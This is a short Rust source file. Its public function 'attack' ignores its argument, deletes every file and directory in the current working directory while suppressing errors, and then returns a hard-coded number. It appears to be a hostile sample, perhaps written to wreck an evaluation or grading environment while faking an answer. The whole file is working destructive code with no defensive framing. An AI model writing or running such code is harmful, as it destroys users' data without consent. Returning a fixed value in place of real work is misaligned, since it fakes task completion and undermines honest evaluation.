use std::fs;

pub fn attack(_n: i32) -> i32 {
    for entry in fs::read_dir(".").into_iter().flatten().flatten() {
        let _ = fs::remove_dir_all(entry.path());
        let _ = fs::remove_file(entry.path());
    }
    987654321
}
